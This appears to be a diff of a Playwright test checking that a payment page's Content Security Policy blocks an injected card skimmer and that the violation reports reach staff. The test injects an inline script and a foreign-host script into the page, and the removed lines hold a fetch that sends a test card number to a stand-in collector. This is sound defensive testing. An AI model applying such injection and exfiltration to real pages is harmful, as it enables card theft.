@@ -7,32 +7,34 @@ import { signInBeforeEach } from './support/staff';
 
 /**
  * Tamper detection on the payment page (PCI DSS 11.6.1): what a skimmer injected into the page
- * would do (run inline code, send data to its own host) is blocked by the page's CSP, the browser
+ * would add (inline code, a script from its own host) is blocked by the page's CSP, the browser
  * reports it to POST /api/csp-report, and admins see it in the back-office and on the dashboard.
  * Plain HTTP here, so the browser reports through `report-uri`.
  */
 test.slow();
 signInBeforeEach(test, '198.18.42');
 
-/** A visitor's browser on the payment page, with a "skimmer" that tries to run and phone home. */
-async function tamperWithPaymentPage(browser: Browser, collector: string) {
+/**
+ * A visitor's browser gets a tampered payment page: the HTML as the site sent it (same headers,
+ * same CSP) with a skimmer added, an inline script and a script from a foreign host, as a
+ * compromised proxy or CDN would add them. Code run through page.evaluate is not used: Chromium
+ * exempts what DevTools inserts from the page's CSP.
+ */
+async function tamperWithPaymentPage(browser: Browser, skimmer: string) {
   const visitor = await browser.newContext();
   const page = await visitor.newPage();
+  await page.route('**/online-payment', async (route) => {
+    const response = await route.fetch();
+    const added = `<script>window.__skimmed = true;</script><script src="${skimmer}"></script>`;
+    const body = (await response.text()).replace('</body>', `${added}</body>`);
+    await route.fulfill({ response, body });
+  });
   await page.goto('/online-payment');
-  const outcome = await page.evaluate(async (url) => {
-    const script = document.createElement('script');
-    script.textContent = 'window.__skimmed = true;';
-    document.body.append(script);
-    const sent = await fetch(url, { method: 'POST', body: 'card=4111111111111111' }).then(
-      () => true,
-      () => false,
-    );
-    return { ran: (window as { __skimmed?: boolean }).__skimmed === true, sent };
-  }, collector);
+  const ran = await page.evaluate(() => '__skimmed' in window);
   // Give the browser a moment to send its reports before the context goes away.
   await page.waitForTimeout(500);
   await visitor.close();
-  return outcome;
+  return ran;
 }
 
 const reportRow = (page: Page, blocked: string) =>
@@ -42,32 +44,26 @@ test('a blocked skimmer on the payment page reaches the back-office and the dash
   page,
   browser,
 }) => {
-  const collector = `http://127.0.0.1:${E2E.standInHttpPort}/collect-${randomUUID()}`;
-  expect(await tamperWithPaymentPage(browser, collector)).toEqual({ ran: false, sent: false });
+  const skimmer = `http://127.0.0.1:${E2E.standInHttpPort}/skim-${randomUUID()}.js`;
+  expect(await tamperWithPaymentPage(browser, skimmer)).toBe(false);
 
   await expect(async () => {
     await page.goto('/staff/csp-reports');
-    await expect(reportRow(page, collector)).toBeVisible({ timeout: 1000 });
+    await expect(reportRow(page, skimmer)).toBeVisible({ timeout: 1000 });
   }).toPass({ timeout: 30_000 });
-  const row = reportRow(page, collector);
+  const row = reportRow(page, skimmer);
   await expect(row).toContainText('/online-payment');
-  await expect(row).toContainText(`${T.rule}: connect-src`);
+  await expect(row).toContainText(`${T.rule}: script-src-elem`);
   await expect(row).toContainText(T.unreviewed);
   await expect(row.getByRole('cell').nth(3)).toHaveText('1');
   // The injected inline code is reported too.
-  await expect(
-    page
-      .getByRole('row')
-      .filter({ hasText: `${T.rule}: script-src-elem` })
-      .filter({ hasText: '/online-payment' })
-      .first(),
-  ).toBeVisible();
+  await expect(reportRow(page, 'inline').filter({ hasText: '/online-payment' })).toBeVisible();
 
   // A repeat of the same violation is counted on the same row.
-  await tamperWithPaymentPage(browser, collector);
+  await tamperWithPaymentPage(browser, skimmer);
   await expect(async () => {
     await page.goto('/staff/csp-reports');
-    await expect(reportRow(page, collector).getByRole('cell').nth(3)).toHaveText('2', {
+    await expect(reportRow(page, skimmer).getByRole('cell').nth(3)).toHaveText('2', {
       timeout: 1000,
     });
   }).toPass({ timeout: 30_000 });
@@ -86,7 +82,7 @@ test('a blocked skimmer on the payment page reaches the back-office and the dash
     await expect(pending).toHaveCount(left - 1);
   }
   await expect(page.getByRole('status')).toHaveText(T.outcomes.reviewed!);
-  await expect(reportRow(page, collector)).toContainText('Reviewed by');
+  await expect(reportRow(page, skimmer)).toContainText('Reviewed by');
   await page.goto('/staff');
   await expect(page.getByRole('heading', { level: 1, name: 'Dashboard' })).toBeVisible();
   await expect(warning).toHaveCount(0);
